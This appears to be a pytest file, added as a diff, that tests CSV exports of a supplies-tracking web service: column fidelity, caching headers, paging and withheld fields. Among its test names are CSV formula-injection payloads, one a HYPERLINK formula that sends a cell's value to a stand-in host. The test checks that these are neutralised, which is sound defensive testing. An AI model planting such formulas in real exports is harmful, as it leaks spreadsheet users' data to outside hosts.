@@ -1,0 +1,182 @@
+"""Lists as text/csv: the very rows of the JSON, cell for cell, page for page."""
+
+import csv
+import io
+import json
+import os
+import tempfile
+import urllib.parse
+
+import pytest
+
+import contract_session
+import test_contract
+from conftest import Server
+from world import World, fresh, version_of
+
+LISTS = [operation for operation in test_contract.OPERATIONS if "x-tallystick-columns" in operation.item]
+QUERIES = {"getEfficiency": [contract_session.EFFICIENCY.partition("?")[2]], "summariseSupplies": ["", "by=item", "by=province,site"],
+           "summariseTransfers": ["", "by=state", "by=origin,destination"], "listFigures": ["", "limit=1000", "year=2011"]}
+FORMULA = tuple("=+-@\t\r'＝＋－＠")
+
+
+@pytest.fixture(scope="module")
+def played():
+    """A service of its own: the session makes a province, which others do not expect."""
+    with tempfile.TemporaryDirectory(prefix="tallystick.") as scratch:
+        started = Server(os.path.join(scratch, "data"))
+        contract_session.play(started, lambda name, response: None)
+        yield started
+        assert started.stop() == 0
+
+
+def address(operation):
+    return operation.path.replace("{id}", "MASKS-1")
+
+
+def get(server, path, token=None, method="GET", **headers):
+    headers = {name.replace("_", "-"): value for name, value in headers.items()}
+    return server.request(method, path, token=token, headers={"Accept": "text/csv", **headers})
+
+
+def rows_of(reply):
+    assert reply.status_code == 200, reply.text
+    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
+    text = reply.content.decode("utf-8")
+    assert text.endswith("\r\n") and "\0" not in text
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert all(len(row) == len(rows[0]) for row in rows)
+    return rows[0], rows[1:]
+
+
+def cell(value):
+    """A member's value as its cell."""
+    if value is None:
+        return ""
+    if isinstance(value, str):
+        return "'" + value if value.startswith(FORMULA) else value
+    return json.dumps(value, ensure_ascii=False, separators=(",", ":")) if isinstance(value, (bool, list, dict)) else value
+
+
+def flat(item, columns, before=""):
+    for name, value in item.items():
+        path = before + name
+        if isinstance(value, dict) and any(column.startswith(path + ".") for column in columns):
+            yield from flat(value, columns, path + ".")
+        else:
+            yield path, cell(value)
+
+
+def same(text, value):
+    return float(text) == value if isinstance(value, (int, float)) else text == value
+
+
+@pytest.mark.parametrize("operation", LISTS, ids=lambda operation: operation.id)
+def test_the_rows_are_those_of_the_json(played, operation):
+    columns = operation.item["x-tallystick-columns"]
+    for query in QUERIES.get(operation.id, ["", "limit=2"]):
+        path = f"{address(operation)}?{query}"
+        for token in (None, True):
+            as_csv, as_json = get(played, path, token), played.get(path, token=token)
+            header, rows = rows_of(as_csv)
+            assert header == columns
+            body = as_json.json()
+            items = body.get("items", body.get("results"))
+            assert len(rows) == len(items) and len(items) > 0
+            for row, item in zip(rows, items):
+                cells = dict(flat(item, columns))
+                assert set(cells) <= set(columns)
+                for name, text in zip(columns, row):
+                    assert same(text, cells.get(name, "")), (name, text, item)
+            assert as_csv.headers.get("Link") == as_json.headers.get("Link")
+            assert as_csv.headers["ETag"] != as_json.headers["ETag"]
+            for reply in (as_csv, as_json):
+                assert "Accept" in reply.headers["Vary"].split(", ")
+            assert as_csv.headers["Cache-Control"] == as_json.headers["Cache-Control"]
+
+
+@pytest.mark.parametrize("operation", LISTS, ids=lambda operation: operation.id)
+def test_tags_and_head(played, operation):
+    path = f"{address(operation)}?{QUERIES.get(operation.id, [''])[0]}"
+    first = get(played, path)
+    tag = first.headers["ETag"]
+    again = get(played, path, If_None_Match=tag)
+    assert again.status_code == 304 and again.headers["ETag"] == tag and again.headers["Vary"] == first.headers["Vary"]
+    assert played.get(path, headers={"If-None-Match": tag}).status_code == 200, "the tag of the other representation"
+    head = get(played, path, method="HEAD")
+    assert head.headers["Content-Length"] == str(len(first.content)) and head.headers["ETag"] == tag
+
+
+def test_every_list_can_be_had(played):
+    """Whatever answers with items has them as CSV, too."""
+    for operation in test_contract.OPERATIONS:
+        if operation.method == "GET" and "{" not in operation.path and "items" in str(operation.item["responses"]["200"].get("content", {})):
+            assert operation in LISTS, operation.id
+    assert len(LISTS) == 13
+
+
+def test_pages_follow_the_link(played):
+    path, seen = "/figures?year=2011&limit=100", []
+    while path:
+        reply = get(played, path)
+        seen += rows_of(reply)[1]
+        link = reply.links.get("next")
+        path = link and "?".join(urllib.parse.urlsplit(link["url"])[2:4])
+    items = played.get("/figures?year=2011&limit=1000").json()["items"]
+    assert [row[:3] for row in seen] == [[item["indicator"], str(item["year"]), item["province"]] for item in items]
+    assert [float(row[3]) for row in seen] == [item["value"] for item in items]
+
+
+def test_an_empty_list_has_its_header(played):
+    header, rows = rows_of(get(played, "/transfers?organisation=NOBODY-AT-ALL"))
+    assert rows == [] and header[0] == "id"
+
+
+@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "'quoted", "＝1", "\t=1", '=HYPERLINK("http://x/?"&A1,"a, b")',
+                                  "two\nlines", 'a "word"', "a,b", "plain", "北京"])
+def test_texts_are_no_formulas_and_come_back(played, name):
+    item = fresh("CSV")
+    category = fresh("c").lower()
+    put = played.put(f"/items/{item}", {"name": name, "unit": "piece", "category": category})
+    if put.status_code == 422:  # the rules do not take it as a name
+        return
+    header, [row] = rows_of(get(played, f"/items?category={category}"))
+    text = row[header.index("name")]
+    assert text == ("'" + name if name.startswith(FORMULA) else name)
+    assert (text[1:] if text.startswith("'") else text) == name
+
+
+def test_what_is_withheld_stays_so(played):
+    world = World(played)
+    supply = world.intake(10, note="=a person's name")["id"]
+    path = f"/supplies/{supply}/movements"
+    for token, note, withheld in [(None, "", '["note"]'), (world.token("operator", world.a), "'=a person's name", "[]"), (None, "", '["note"]')]:
+        header, [row] = rows_of(get(played, path, token))
+        assert row[header.index("note")] == note and row[header.index("withheld")] == withheld
+        assert get(played, path, token).headers["Vary"] == "Accept, Authorization"
+
+
+def test_a_page_of_figures_keeps_its_revision(played):
+    reply = get(played, "/figures?limit=1")
+    assert version_of(reply) == str(played.get("/figures?limit=1").json()["figures_revision"])
+    body = {"figures": [{"indicator": "ambulances", "year": 2023, "province": "CN-HB", "value": 77}]}
+    assert played.put("/figures", body, headers={"If-Match": reply.headers["ETag"]}).status_code == 200
+    assert played.put("/figures", body, headers={"If-Match": reply.headers["ETag"]}).status_code == 412
+
+
+def test_figures_go_out_and_in_again(played):
+    """What /figures gives is what /figures takes."""
+    out = get(played, "/figures?indicator=ambulances")
+    back = played.put("/figures", data=out.content, headers={"Content-Type": "text/csv"})
+    assert back.status_code == 200 and back.json()["changed"] == 0, back.text
+
+
+def test_objects_are_no_tables(played):
+    for path in ("/items/MASK-N95", "/ledger", "/ledger/keys", "/transfers/TRANSFER-1", "/healthz"):
+        reply = get(played, path)
+        assert reply.status_code == 406 and reply.json()["representations"] == ["application/json"]
+
+
+def test_a_problem_stays_a_problem(played):
+    reply = get(played, "/figures?limit=0")
+    assert reply.status_code == 400 and reply.headers["Content-Type"] == "application/problem+json"
